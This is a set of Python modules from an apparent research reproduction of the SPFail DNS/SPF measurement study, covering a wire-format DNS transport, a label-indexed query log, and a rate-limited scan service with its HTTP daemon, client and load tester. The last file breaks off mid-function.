