"""Wire-format DNS transport adapter.

The simulation normally passes :class:`~repro.dns.message.Message`
objects between resolvers and servers directly (fast).  Wrapping any
backend in :class:`WireTransportBackend` forces every query and response
through the RFC 1035 codec — bytes on the simulated wire — which keeps
the substrate honest: a campaign run over wire transport must produce
*identical* results to the in-memory run, and the test suite asserts it.
"""

from __future__ import annotations

import datetime as _dt
from typing import Optional

from .message import Message
from .server import DnsBackend
from .wire import from_wire, to_wire


class WireTransportBackend(DnsBackend):
    """Round-trips every message through wire encoding on both legs."""

    def __init__(self, inner: DnsBackend) -> None:
        self.inner = inner
        self.bytes_sent = 0
        self.bytes_received = 0
        self.messages = 0

    def query(
        self, message: Message, *, source: str = "", now: Optional[_dt.datetime] = None
    ) -> Message:
        query_wire = to_wire(message)
        self.bytes_sent += len(query_wire)
        self.messages += 1
        response = self.inner.query(from_wire(query_wire), source=source, now=now)
        response_wire = to_wire(response)
        self.bytes_received += len(response_wire)
        return from_wire(response_wire)
