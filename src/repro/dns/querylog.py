"""The measurement-side DNS query log.

The SPFail detection technique observes nothing but the DNS queries that
arrive at the researchers' authoritative server.  :class:`QueryLog` records
each query with its timestamp and source, and knows how to slice the log by
the unique ``<id>`` / ``<suite>`` labels that the prober embeds in MAIL FROM
domains (Section 5.1 of the paper).
"""

from __future__ import annotations

import datetime as _dt
import threading
from dataclasses import dataclass
from typing import Dict, Iterable, Iterator, List, Optional, Tuple

from ..obs import context as _obs
from .name import Name
from .rdata import RRType


@dataclass(frozen=True)
class QueryLogEntry:
    """One query received by the measurement DNS server."""

    timestamp: _dt.datetime
    qname: Name
    rrtype: RRType
    source: str  # the querying resolver/MTA identity, e.g. "198.51.100.7"

    def to_text(self) -> str:
        return f"{self.timestamp.isoformat()} {self.source} {self.qname} {self.rrtype.name}"


class QueryLog:
    """An append-only log of queries, indexed by embedded test labels.

    The prober advertises MAIL FROM domains of the form::

        <id>.<suite>.spf-test.dns-lab.org

    so any query whose name contains both labels belongs to exactly one
    (test-suite, tested-server) pair.  ``base`` is the registered suffix
    under the measurement team's control.
    """

    def __init__(self, base: Name) -> None:
        self.base = base
        self._base_key = base.key
        self._entries: List[QueryLogEntry] = []
        self._by_labels: Dict[Tuple[str, str], List[QueryLogEntry]] = {}
        # Probe-execution workers append concurrently; per-label slices
        # stay consistent because every (suite, id) pair belongs to one
        # task and the append itself is guarded here.
        self._lock = threading.Lock()

    def __len__(self) -> int:
        return len(self._entries)

    def __iter__(self) -> Iterator[QueryLogEntry]:
        return iter(self._entries)

    def record(
        self,
        timestamp: _dt.datetime,
        qname: Name,
        rrtype: RRType,
        source: str = "",
    ) -> QueryLogEntry:
        """Append one query to the log."""
        entry = QueryLogEntry(timestamp=timestamp, qname=qname, rrtype=rrtype, source=source)
        labels = self.extract_labels(qname)
        with self._lock:
            self._entries.append(entry)
            if labels is not None:
                self._by_labels.setdefault(labels, []).append(entry)
        obs = _obs.ACTIVE
        if obs is not None and obs.tracer.enabled:
            # The query-observed event: the paper's sole observable,
            # linked to the originating probe by its embedded labels.
            obs.tracer.event(
                "dns.query",
                qname=str(qname),
                rrtype=rrtype.name,
                source=source,
                suite=labels[0] if labels is not None else None,
                test_id=labels[1] if labels is not None else None,
            )
        return entry

    def entries_since(self, start: int) -> List[QueryLogEntry]:
        """Entries recorded at positions ``start..`` (arrival order)."""
        with self._lock:
            return self._entries[start:]

    def ingest(self, entries: Iterable[QueryLogEntry]) -> None:
        """Adopt entries recorded by another process's log.

        Used when merging shard-world evidence back into the parent: the
        entries were already traced (``dns.query``) in the recording
        process, so ingestion only appends and re-indexes — it never
        re-emits trace events.
        """
        with self._lock:
            for entry in entries:
                self._entries.append(entry)
                labels = self.extract_labels(entry.qname)
                if labels is not None:
                    self._by_labels.setdefault(labels, []).append(entry)

    def extract_labels(self, qname: Name) -> Optional[Tuple[str, str]]:
        """Extract ``(suite, id)`` from a query name under our base.

        The id and suite are the two labels immediately left of the base;
        anything further left is macro-expansion output.  Returns ``None``
        for names outside the base or too shallow to carry both labels.
        """
        base_key = self._base_key
        blen = len(base_key)
        qkey = qname.key
        n = len(qkey) - blen
        if n < 2:
            return None
        if blen and qkey[-blen:] != base_key:
            return None
        return (qkey[n - 1], qkey[n - 2])

    def entries_for(self, suite: str, test_id: str) -> List[QueryLogEntry]:
        """All queries carrying the given suite and test id labels."""
        return list(self._by_labels.get((suite.lower(), test_id.lower()), []))

    def expansion_prefixes(self, suite: str, test_id: str) -> List[Name]:
        """The macro-expansion outputs observed for one test.

        For each logged A/AAAA query ``X.<id>.<suite>.<base>``, returns the
        ``X`` portion (possibly multiple labels).  TXT queries (the policy
        fetch itself, with empty prefix) are excluded.
        """
        blen = len(self._base_key)
        prefixes = []
        for entry in self.entries_for(suite, test_id):
            if entry.rrtype not in (RRType.A, RRType.AAAA):
                continue
            qname = entry.qname
            n = len(qname.labels) - blen - 2
            if n > 0:
                prefixes.append(Name._make(qname.labels[:n], qname.key[:n]))
        return prefixes

    def saw_policy_fetch(self, suite: str, test_id: str) -> bool:
        """True if the TXT policy for this test was ever queried."""
        return any(
            e.rrtype == RRType.TXT for e in self.entries_for(suite, test_id)
        )

    def between(
        self, start: _dt.datetime, end: _dt.datetime
    ) -> List[QueryLogEntry]:
        """Entries with ``start <= timestamp < end``."""
        return [e for e in self._entries if start <= e.timestamp < end]

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()
            self._by_labels.clear()
