"""``repro serve``: a long-lived scan service over a resident world.

The batch pipeline answers "what was the state of the whole population
on date D"; this package answers the operator-shaped questions from the
ROADMAP's scan-as-a-service item — "is this domain/MTA spoofable right
now, and has it patched since round N?" — from a world that stays
resident between requests.

- :mod:`repro.serve.service` — admission (bounded queue → 429),
  per-tenant rate limits reusing :class:`repro.core.ethics.
  EthicsControls`, single-dispatcher world access, latency accounting;
- :mod:`repro.serve.httpd` — the ``POST /v1/<method>`` JSON listener
  (TCP loopback or unix socket) on stdlib ``http.server``;
- :mod:`repro.serve.client` — the matching typed client
  (:class:`ScanClient`), returning the same :class:`repro.api.
  ProbeResult` values the in-process API does;
- :mod:`repro.serve.loadtest` — deterministic synthetic load and
  ledger-ready latency records.

Start one from the CLI (``python -m repro serve --scale 0.05``) or
in-process::

    from repro import api
    from repro.serve import ScanService, start_server

    handle = api.open_run(api.RunConfig(scale=0.02))
    service = ScanService(handle)
    server, _ = start_server(service, port=8754)
"""

from .client import ScanClient
from .httpd import ScanHTTPServer, UnixScanHTTPServer, start_server
from .loadtest import (
    DEFAULT_MIX,
    LoadTestReport,
    build_plan,
    loadtest_record,
    run_loadtest,
)
from .service import METHODS, PROBE_METHODS, ScanService, exact_percentile

__all__ = [
    "DEFAULT_MIX",
    "LoadTestReport",
    "METHODS",
    "PROBE_METHODS",
    "ScanClient",
    "ScanHTTPServer",
    "ScanService",
    "UnixScanHTTPServer",
    "build_plan",
    "exact_percentile",
    "loadtest_record",
    "run_loadtest",
    "start_server",
]
