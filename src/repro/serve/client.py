"""A minimal typed client for the serve daemon (stdlib only).

:class:`ScanClient` speaks the ``/v1/<method>`` JSON protocol over TCP
or a unix-domain socket, reusing one keep-alive connection per client
instance (one client per thread in the load tester).  Probe answers
deserialize into :class:`repro.api.ProbeResult` — the same value the
in-process API returns — so a caller can switch between embedding the
world and talking to a daemon without changing a line of result
handling.
"""

from __future__ import annotations

import http.client
import json
import socket
from typing import Optional, Tuple

from ..api import ProbeResult
from ..errors import ServeError


class _TCPHTTPConnection(http.client.HTTPConnection):
    """Plain TCP connection with Nagle disabled.

    Headers and body go out as separate small writes; leaving Nagle on
    lets the second write wait out the server's delayed ACK (~40ms per
    request), which would dwarf the actual service time.
    """

    def connect(self) -> None:
        super().connect()
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)


class _UnixHTTPConnection(http.client.HTTPConnection):
    """``http.client`` over an ``AF_UNIX`` socket path."""

    def __init__(self, path: str, timeout: Optional[float] = None) -> None:
        super().__init__("localhost", timeout=timeout)
        self._path = path

    def connect(self) -> None:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        if self.timeout is not None:
            sock.settimeout(self.timeout)
        sock.connect(self._path)
        self.sock = sock


class ScanClient:
    """One connection to a serve daemon; methods mirror the endpoints."""

    def __init__(
        self,
        host: str = "127.0.0.1",
        port: int = 0,
        *,
        socket_path: Optional[str] = None,
        tenant: str = "public",
        timeout: float = 300.0,
    ) -> None:
        self.host = host
        self.port = port
        self.socket_path = socket_path
        self.tenant = tenant
        self.timeout = timeout
        self._conn: Optional[http.client.HTTPConnection] = None

    # -- plumbing -------------------------------------------------------------

    def _connection(self) -> http.client.HTTPConnection:
        if self._conn is None:
            if self.socket_path:
                self._conn = _UnixHTTPConnection(
                    self.socket_path, timeout=self.timeout
                )
            else:
                self._conn = _TCPHTTPConnection(
                    self.host, self.port, timeout=self.timeout
                )
        return self._conn

    def close(self) -> None:
        if self._conn is not None:
            self._conn.close()
            self._conn = None

    def __enter__(self) -> "ScanClient":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    def request(
        self, method: str, payload: Optional[dict] = None
    ) -> Tuple[int, dict]:
        """One round trip: ``(http_status, decoded_body)``.

        Transport errors retry once on a fresh connection (a keep-alive
        peer may have timed the previous one out); anything persistent
        raises :class:`ServeError`.
        """
        body = dict(payload or {})
        body.setdefault("tenant", self.tenant)
        encoded = json.dumps(body).encode("utf-8")
        for attempt in (0, 1):
            conn = self._connection()
            try:
                conn.request(
                    "POST",
                    f"/v1/{method}",
                    body=encoded,
                    headers={"Content-Type": "application/json"},
                )
                response = conn.getresponse()
                raw = response.read()
                break
            except (OSError, http.client.HTTPException) as error:
                self.close()
                if attempt:
                    raise ServeError(
                        f"request {method!r} failed: {error}"
                    ) from error
        try:
            decoded = json.loads(raw.decode("utf-8")) if raw else {}
        except (UnicodeDecodeError, ValueError) as error:
            raise ServeError(
                f"daemon answered non-JSON to {method!r}: {error}"
            ) from error
        return response.status, decoded

    def _expect_ok(self, method: str, payload: dict) -> dict:
        status, body = self.request(method, payload)
        if status != 200:
            raise ServeError(
                f"{method} {payload.get('target', '')!r} failed "
                f"({status}): {body.get('error', body)}"
            )
        return body

    # -- endpoints ------------------------------------------------------------

    def probe_domain(self, domain: str) -> ProbeResult:
        return ProbeResult.from_dict(
            self._expect_ok("probe_domain", {"target": domain})
        )

    def check_mta(self, ip: str) -> ProbeResult:
        return ProbeResult.from_dict(
            self._expect_ok("check_mta", {"target": ip})
        )

    def census_row(self, domain: str) -> dict:
        return self._expect_ok("spf_census_row", {"target": domain})

    def patch_status_since(self, domain: str, since: int = 0) -> dict:
        return self._expect_ok(
            "patch_status_since", {"target": domain, "since": since}
        )

    def run_status(self) -> dict:
        return self._expect_ok("run_status", {})

    def healthz(self) -> bool:
        conn = self._connection()
        try:
            conn.request("GET", "/healthz")
            response = conn.getresponse()
            response.read()
            return response.status == 200
        except (OSError, http.client.HTTPException):
            self.close()
            return False
