"""Synthetic load for a live daemon, with ledger-ready results.

The load tester drives a deterministic request mix (seeded RNG over the
world's own domain and address lists) from a pool of client threads,
measures per-request latency client-side, and reduces everything to a
:class:`LoadTestReport` — exact percentiles, throughput, and error
counts.  :func:`loadtest_record` turns a report into a
performance-ledger record (``kind: "serve"``) so request latency rides
the same ``obs history`` / ``obs regress`` machinery as campaign
throughput; ``request_p99_ms`` and friends are registered as
lower-is-better metrics in :mod:`repro.obs.ledger`.

Requests that the service *refuses* (429, by design under overload or
rate limiting) are counted separately from 5xx-class failures: refusals
are the admission control working, failures are bugs.  The acceptance
gate for this module is zero 5xx over ≥ 10K requests.
"""

from __future__ import annotations

import random
import threading
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from ..errors import ServeError
from .client import ScanClient
from .service import exact_percentile

#: Default request mix: heavily read-biased, like a census/status
#: dashboard with occasional live probes — weights are fractions of the
#: total request count.
DEFAULT_MIX: Tuple[Tuple[str, float], ...] = (
    ("spf_census_row", 0.60),
    ("run_status", 0.15),
    ("patch_status_since", 0.15),
    ("probe_domain", 0.05),
    ("check_mta", 0.05),
)


@dataclass
class LoadTestReport:
    """Everything one load-test run measured."""

    requests: int
    wall_seconds: float
    by_method: Dict[str, int] = field(default_factory=dict)
    by_status: Dict[int, int] = field(default_factory=dict)
    errors_5xx: int = 0
    rejected_429: int = 0
    transport_errors: int = 0
    latencies_ms: List[float] = field(default_factory=list)

    @property
    def requests_per_second(self) -> float:
        if self.wall_seconds <= 0:
            return 0.0
        return self.requests / self.wall_seconds

    def percentile_ms(self, q: float) -> float:
        return exact_percentile(self.latencies_ms, q)

    def summary(self) -> dict:
        out = {
            "requests": self.requests,
            "wall_seconds": round(self.wall_seconds, 3),
            "requests_per_second": round(self.requests_per_second, 3),
            "by_method": dict(sorted(self.by_method.items())),
            "by_status": {
                str(k): v for k, v in sorted(self.by_status.items())
            },
            "errors_5xx": self.errors_5xx,
            "rejected_429": self.rejected_429,
            "transport_errors": self.transport_errors,
        }
        if self.latencies_ms:
            out["latency_ms"] = {
                "p50": round(self.percentile_ms(0.50), 3),
                "p90": round(self.percentile_ms(0.90), 3),
                "p99": round(self.percentile_ms(0.99), 3),
                "max": round(max(self.latencies_ms), 3),
            }
        return out

    def render(self) -> str:
        lines = [
            f"loadtest: {self.requests:,} requests in "
            f"{self.wall_seconds:.2f}s ({self.requests_per_second:,.0f} req/s)",
            f"  statuses: "
            + ", ".join(
                f"{status}×{count:,}"
                for status, count in sorted(self.by_status.items())
            ),
            f"  5xx errors: {self.errors_5xx:,} · 429 refusals: "
            f"{self.rejected_429:,} · transport errors: "
            f"{self.transport_errors:,}",
        ]
        if self.latencies_ms:
            lines.append(
                f"  latency: p50 {self.percentile_ms(0.5):.2f}ms · "
                f"p90 {self.percentile_ms(0.9):.2f}ms · "
                f"p99 {self.percentile_ms(0.99):.2f}ms · "
                f"max {max(self.latencies_ms):.2f}ms"
            )
        return "\n".join(lines)


def build_plan(
    count: int,
    *,
    domains: Sequence[str],
    ips: Sequence[str] = (),
    seed: int = 20211011,
    mix: Sequence[Tuple[str, float]] = DEFAULT_MIX,
) -> List[Tuple[str, dict]]:
    """A deterministic request plan: ``count`` (method, payload) pairs.

    The plan is a pure function of its arguments, so two load tests of
    the same world and seed drive byte-identical request streams.
    Methods whose target pool is empty (``check_mta`` with no address
    list) fall back to ``spf_census_row``.
    """
    if not domains:
        raise ServeError("load-test plan needs a non-empty domain list")
    rng = random.Random(seed)
    methods: List[str] = []
    weights: List[float] = []
    for method, weight in mix:
        methods.append(method)
        weights.append(weight)
    plan: List[Tuple[str, dict]] = []
    for _ in range(count):
        method = rng.choices(methods, weights=weights, k=1)[0]
        if method == "check_mta" and not ips:
            method = "spf_census_row"
        if method == "run_status":
            plan.append((method, {}))
        elif method == "check_mta":
            plan.append((method, {"target": rng.choice(list(ips))}))
        elif method == "patch_status_since":
            plan.append(
                (method, {"target": rng.choice(list(domains)), "since": 0})
            )
        else:
            plan.append((method, {"target": rng.choice(list(domains))}))
    return plan


def run_loadtest(
    make_client: Callable[[], ScanClient],
    plan: Sequence[Tuple[str, dict]],
    *,
    threads: int = 8,
) -> LoadTestReport:
    """Drive ``plan`` through ``threads`` concurrent clients.

    Each worker owns one keep-alive client and a contiguous slice of the
    plan; latency is measured client-side around the full round trip.
    """
    if not plan:
        raise ServeError("load test needs a non-empty plan")
    threads = max(1, min(threads, len(plan)))
    guard = threading.Lock()
    report = LoadTestReport(requests=0, wall_seconds=0.0)

    def worker(slice_: Sequence[Tuple[str, dict]]) -> None:
        client = make_client()
        local_latencies: List[float] = []
        local_status: Dict[int, int] = {}
        local_methods: Dict[str, int] = {}
        transport = 0
        try:
            for method, payload in slice_:
                started = time.perf_counter()
                try:
                    status, _ = client.request(method, payload)
                except ServeError:
                    transport += 1
                    continue
                local_latencies.append(
                    (time.perf_counter() - started) * 1000.0
                )
                local_status[status] = local_status.get(status, 0) + 1
                local_methods[method] = local_methods.get(method, 0) + 1
        finally:
            client.close()
        with guard:
            report.latencies_ms.extend(local_latencies)
            report.transport_errors += transport
            for status, count in local_status.items():
                report.by_status[status] = (
                    report.by_status.get(status, 0) + count
                )
                if status >= 500:
                    report.errors_5xx += count
                elif status == 429:
                    report.rejected_429 += count
            for method, count in local_methods.items():
                report.by_method[method] = (
                    report.by_method.get(method, 0) + count
                )

    chunk = -(-len(plan) // threads)
    slices = [plan[i : i + chunk] for i in range(0, len(plan), chunk)]
    pool = [
        threading.Thread(target=worker, args=(s,), daemon=True)
        for s in slices
    ]
    started = time.perf_counter()
    for thread in pool:
        thread.start()
    for thread in pool:
        thread.join()
    report.wall_seconds = time.perf_counter() - started
    report.requests = len(plan)
    return report


def loadtest_record(
    report: LoadTestReport,
    *,
    config,
    noise: Optional[float] = None,
    ts: Optional[float] = None,
) -> dict:
    """A performance-ledger record (``kind: "serve"``) for one load test.

    Latency percentiles land top-level (``request_p50_ms`` /
    ``request_p99_ms``, registered lower-is-better) next to
    ``requests_per_second``, so ``obs regress --metric request_p99_ms``
    gates serve latency exactly like campaign throughput.
    """
    from ..obs.ledger import LEDGER_VERSION, environment_info

    record: dict = {
        "v": LEDGER_VERSION,
        "kind": "serve",
        "ts": round(ts if ts is not None else time.time(), 3),
        "config_hash": config.content_hash(),
        "env": environment_info(),
        "scale": config.resolved_population().scale,
        "seed": config.seed,
        "requests": report.requests,
        "wall_seconds": round(report.wall_seconds, 6),
        "requests_per_second": round(report.requests_per_second, 3),
        "errors_5xx": report.errors_5xx,
        "rejected_429": report.rejected_429,
        "transport_errors": report.transport_errors,
        "by_method": dict(sorted(report.by_method.items())),
        "noise": noise,
    }
    if report.latencies_ms:
        record["request_p50_ms"] = round(report.percentile_ms(0.50), 3)
        record["request_p90_ms"] = round(report.percentile_ms(0.90), 3)
        record["request_p99_ms"] = round(report.percentile_ms(0.99), 3)
        record["request_max_ms"] = round(max(report.latencies_ms), 3)
    return record
