"""The scan service core: admission, dispatch, and latency accounting.

:class:`ScanService` turns a resident :class:`repro.api.RunHandle` into
a request-serving engine.  The design splits into three small pieces:

- **Admission.**  Requests enter a bounded queue
  (``queue_depth``); a full queue is answered ``429 overloaded``
  immediately rather than building unbounded backlog.  Probe requests
  additionally pass per-tenant rate limiting *before* they are queued,
  reusing :class:`repro.core.ethics.EthicsControls` verbatim: each
  tenant gets its own controls instance, so one tenant re-probing a
  target inside the minimum reconnect wait (or exceeding the
  concurrency cap) is refused with ``429`` + ``Retry-After`` without
  affecting anyone else.  The ethics machinery that keeps the *campaign*
  polite toward remote servers is exactly the machinery that keeps
  *tenants* polite toward the service.

- **Dispatch.**  A single dispatcher thread owns the world: every
  world-touching request is executed serially against the handle, in
  admission order.  This is a determinism decision, not a throughput
  shortcut — the virtual clock, label allocator, and DNS caches must
  advance in one well-defined order for probe results (and their trace
  events) to stay byte-identical to batch runs of the same probes.
  ``run_status`` bypasses the queue entirely (it only reads counters),
  so health checks stay responsive under load.

- **Accounting.**  Every request records its wall-clock latency and
  outcome.  Exact percentiles are computed from the retained samples
  (the same no-approximation policy as :class:`repro.obs.metrics.
  Histogram`), surfaced through :meth:`stats` / ``run_status``, mirrored
  into the handle's observation metrics registry when one is attached,
  and rolled into performance-ledger records by
  :mod:`repro.serve.loadtest`.
"""

from __future__ import annotations

import datetime as _dt
import queue
import threading
import time
import traceback
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from ..api import ProbeRequest, RunHandle
from ..core.ethics import EthicsControls, EthicsViolation
from ..errors import ReproError, ServeError

#: Methods the service answers; ``run_status`` never queues.
METHODS = (
    "probe_domain",
    "check_mta",
    "spf_census_row",
    "patch_status_since",
    "run_status",
)

#: Methods that contact remote addresses and therefore pass the
#: per-tenant ethics admission gate (reads are bounded by the queue).
PROBE_METHODS = ("probe_domain", "check_mta")


def exact_percentile(samples: List[float], q: float) -> float:
    """The exact q-quantile (nearest-rank) of a non-empty sample list."""
    if not samples:
        raise ServeError("percentile of an empty sample set")
    ordered = sorted(samples)
    rank = max(1, min(len(ordered), int(-(-q * len(ordered) // 1))))
    return ordered[rank - 1]


@dataclass
class _Pending:
    """One admitted request riding the dispatch queue."""

    method: str
    payload: dict
    tenant: str
    #: the ethics-admission key to release on completion (``None`` for
    #: read methods, which never touched the limiter).
    release_key: Optional[str] = None
    done: threading.Event = field(default_factory=threading.Event)
    status: int = 500
    body: dict = field(default_factory=dict)


class ScanService:
    """A request-serving front over one resident :class:`RunHandle`."""

    def __init__(
        self,
        handle: RunHandle,
        *,
        queue_depth: int = 64,
        tenant_limits: Optional[Callable[[], EthicsControls]] = None,
        request_timeout: float = 300.0,
    ) -> None:
        self.handle = handle
        self.queue_depth = queue_depth
        self.request_timeout = request_timeout
        self._queue: "queue.Queue[Optional[_Pending]]" = queue.Queue(
            maxsize=queue_depth
        )
        #: per-tenant rate limiters, created on first contact.
        self._limits_factory = tenant_limits or EthicsControls
        self._limiters: Dict[str, EthicsControls] = {}
        self._guard = threading.Lock()
        # -- accounting (guarded by _guard) --
        self._latencies: Dict[str, List[float]] = {}
        self._counts: Dict[str, int] = {}
        self._rejected_queue = 0
        self._rejected_ratelimit = 0
        self._errors = 0
        self._started_at = time.time()
        self._thread: Optional[threading.Thread] = None
        self._stopping = False

    # -- lifecycle ------------------------------------------------------------

    def start(self) -> "ScanService":
        if self._thread is not None:
            return self
        self._thread = threading.Thread(
            target=self._dispatch_loop, name="repro-serve-dispatch", daemon=True
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        """Drain the dispatcher and stop accepting work (idempotent)."""
        if self._thread is None:
            return
        self._stopping = True
        self._queue.put(None)
        self._thread.join()
        self._thread = None
        self._stopping = False

    def __enter__(self) -> "ScanService":
        return self.start()

    def __exit__(self, exc_type, exc, tb) -> None:
        self.stop()

    # -- admission ------------------------------------------------------------

    def _limiter(self, tenant: str) -> EthicsControls:
        with self._guard:
            limiter = self._limiters.get(tenant)
            if limiter is None:
                limiter = self._limiters[tenant] = self._limits_factory()
            return limiter

    def _admit_probe(
        self, tenant: str, target: str
    ) -> Tuple[Optional[str], Optional[dict]]:
        """Ethics admission for a probe; returns (release_key, refusal)."""
        limiter = self._limiter(tenant)
        now = _dt.datetime.now(tz=_dt.timezone.utc)
        try:
            limiter.connection_opened(target, now)
        except EthicsViolation as violation:
            earliest = limiter.earliest_recontact(target)
            retry_after = 1.0
            if earliest is not None and earliest > now:
                retry_after = (earliest - now).total_seconds()
            return None, {
                "error": f"rate limited: {violation}",
                "reason": "rate-limit",
                "tenant": tenant,
                "retry_after": round(retry_after, 3),
            }
        return target, None

    def submit(
        self, method: str, payload: dict, tenant: str = "public"
    ) -> Tuple[int, dict]:
        """Admit, execute, and answer one request (blocking).

        Returns ``(http_status, body)``.  Callers (the HTTP layer, the
        in-process client used by tests) block until the dispatcher has
        answered; admission failures return immediately.
        """
        started = time.perf_counter()
        if method not in METHODS:
            return 404, {
                "error": f"unknown method {method!r}",
                "methods": list(METHODS),
            }
        if method == "run_status":
            # Pure counter read: never queues, stays responsive under load.
            status, body = 200, self.run_status()
            self._record(method, started, status)
            return status, body

        release_key: Optional[str] = None
        if method in PROBE_METHODS:
            target = str(payload.get("target", ""))
            if not target:
                return 400, {"error": "probe request needs a target"}
            release_key, refusal = self._admit_probe(tenant, target)
            if refusal is not None:
                with self._guard:
                    self._rejected_ratelimit += 1
                return 429, refusal

        pending = _Pending(
            method=method, payload=payload, tenant=tenant,
            release_key=release_key,
        )
        try:
            self._queue.put_nowait(pending)
        except queue.Full:
            if release_key is not None:
                self._limiter(tenant).connection_closed()
            with self._guard:
                self._rejected_queue += 1
            return 429, {
                "error": f"service overloaded (queue depth {self.queue_depth})",
                "reason": "queue-full",
                "retry_after": 1.0,
            }
        if not pending.done.wait(timeout=self.request_timeout):
            # The dispatcher will still finish the work and release the
            # limiter slot; the client just stops waiting.
            return 504, {"error": "request timed out in the dispatch queue"}
        self._record(method, started, pending.status)
        return pending.status, pending.body

    # -- dispatch -------------------------------------------------------------

    def _dispatch_loop(self) -> None:
        while True:
            pending = self._queue.get()
            if pending is None:
                return
            try:
                pending.status, pending.body = self._execute(pending)
            except Exception:
                with self._guard:
                    self._errors += 1
                pending.status = 500
                pending.body = {
                    "error": "internal error",
                    "detail": traceback.format_exc(limit=5),
                }
            finally:
                if pending.release_key is not None:
                    self._limiter(pending.tenant).connection_closed()
                pending.done.set()

    def _execute(self, pending: _Pending) -> Tuple[int, dict]:
        method, payload = pending.method, pending.payload
        try:
            if method in PROBE_METHODS:
                request = ProbeRequest(
                    kind=method,
                    target=str(payload["target"]),
                    tenant=pending.tenant,
                )
                return 200, self.handle.probe(request).to_dict()
            if method == "spf_census_row":
                return 200, self.handle.census_row(str(payload.get("target", "")))
            # patch_status_since
            since = int(payload.get("since", 0))
            return 200, self.handle.patch_status_since(
                str(payload.get("target", "")), since
            )
        except ReproError as error:
            # Domain-level refusals (unknown domain, initial sweep not
            # run yet, ...) are client errors, not service failures.
            return 404, {"error": str(error)}

    # -- accounting -----------------------------------------------------------

    def _record(self, method: str, started: float, status: int) -> None:
        elapsed_ms = (time.perf_counter() - started) * 1000.0
        with self._guard:
            # (5xx outcomes are counted where they arise — the dispatch
            # loop — so a failed request is never double-counted here.)
            self._counts[method] = self._counts.get(method, 0) + 1
            self._latencies.setdefault(method, []).append(elapsed_ms)
        observation = self.handle.simulation.observation
        if observation is not None:
            observation.metrics.counter("serve.requests").inc(key=method)
            observation.metrics.histogram("serve.request_ms").observe(elapsed_ms)

    def latencies_ms(self) -> List[float]:
        """Every recorded request latency (milliseconds), all methods."""
        with self._guard:
            out: List[float] = []
            for samples in self._latencies.values():
                out.extend(samples)
            return out

    def stats(self) -> dict:
        """Request counters and exact latency percentiles."""
        with self._guard:
            merged: List[float] = []
            for samples in self._latencies.values():
                merged.extend(samples)
            out = {
                "requests": sum(self._counts.values()),
                "by_method": dict(sorted(self._counts.items())),
                "rejected_queue_full": self._rejected_queue,
                "rejected_rate_limit": self._rejected_ratelimit,
                "errors": self._errors,
                "queue_depth": self.queue_depth,
                "queued_now": self._queue.qsize(),
                "uptime_seconds": round(time.time() - self._started_at, 3),
            }
        if merged:
            out["latency_ms"] = {
                "count": len(merged),
                "p50": round(exact_percentile(merged, 0.50), 3),
                "p90": round(exact_percentile(merged, 0.90), 3),
                "p99": round(exact_percentile(merged, 0.99), 3),
                "max": round(max(merged), 3),
            }
        return out

    def run_status(self) -> dict:
        """The handle's run snapshot plus service-side counters."""
        status = self.handle.status()
        status["service"] = self.stats()
        return status
