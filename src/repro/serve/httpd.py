"""The daemon's listener: a stdlib HTTP front over :class:`ScanService`.

One endpoint shape: ``POST /v1/<method>`` with a JSON body
(``{"target": ..., "since": ..., "tenant": ...}``), answered with a JSON
document and a meaningful status code (200 OK, 400 malformed, 404
unknown method/domain, 429 admission refusal with ``Retry-After``, 500
internal).  ``GET /v1/run_status`` and ``GET /healthz`` serve
monitoring.  The tenant is taken from the body's ``tenant`` field or the
``X-Tenant`` header (body wins), defaulting to ``"public"``.

The listener binds either a TCP loopback address or a unix-domain
socket — both are fronted by :class:`http.server.ThreadingHTTPServer`,
so many clients can block concurrently while the service's single
dispatcher thread keeps world access serialized (see
:mod:`repro.serve.service` for why that ordering is load-bearing).
"""

from __future__ import annotations

import json
import os
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Optional, Tuple

from ..errors import ServeError
from .service import ScanService

#: API prefix every method endpoint lives under.
API_PREFIX = "/v1/"


class _Handler(BaseHTTPRequestHandler):
    """Parses one request, delegates to the service, writes JSON back."""

    protocol_version = "HTTP/1.1"
    server_version = "repro-serve/1"
    # Responses are one small JSON write after a burst of header writes;
    # without this, Nagle + delayed ACK quantizes every round trip to
    # ~40ms regardless of the actual service time.  (StreamRequestHandler
    # reads this in setup(); it has no effect on the server class.)
    disable_nagle_algorithm = True

    def log_message(self, format, *args):  # noqa: A002 - stdlib signature
        # Request logging is the service's accounting job; stderr noise
        # per request would swamp daemon output under load tests.
        pass

    def _send(self, status: int, body: dict) -> None:
        payload = json.dumps(body, sort_keys=True).encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(payload)))
        retry_after = body.get("retry_after")
        if status == 429 and isinstance(retry_after, (int, float)):
            self.send_header("Retry-After", str(max(1, int(retry_after))))
        self.end_headers()
        self.wfile.write(payload)

    def do_GET(self) -> None:  # noqa: N802 - stdlib naming
        if self.path == "/healthz":
            self._send(200, {"ok": True})
            return
        if self.path == API_PREFIX + "run_status":
            status, body = self.server.service.submit(
                "run_status", {}, self._tenant({})
            )
            self._send(status, body)
            return
        self._send(404, {"error": f"unknown path {self.path!r}"})

    def do_POST(self) -> None:  # noqa: N802 - stdlib naming
        try:
            length = int(self.headers.get("Content-Length", 0))
        except ValueError:
            self.close_connection = True
            self._send(400, {"error": "bad Content-Length"})
            return
        # Drain the body before any rejection: unread bytes would be
        # parsed as the next request line on this keep-alive connection.
        raw = self.rfile.read(length) if length else b"{}"
        if not self.path.startswith(API_PREFIX):
            self._send(404, {"error": f"unknown path {self.path!r}"})
            return
        method = self.path[len(API_PREFIX):]
        try:
            payload = json.loads(raw.decode("utf-8")) if raw.strip() else {}
        except (UnicodeDecodeError, ValueError) as error:
            self._send(400, {"error": f"request body is not JSON: {error}"})
            return
        if not isinstance(payload, dict):
            self._send(400, {"error": "request body must be a JSON object"})
            return
        status, body = self.server.service.submit(
            method, payload, self._tenant(payload)
        )
        self._send(status, body)

    def _tenant(self, payload: dict) -> str:
        tenant = payload.get("tenant") or self.headers.get("X-Tenant")
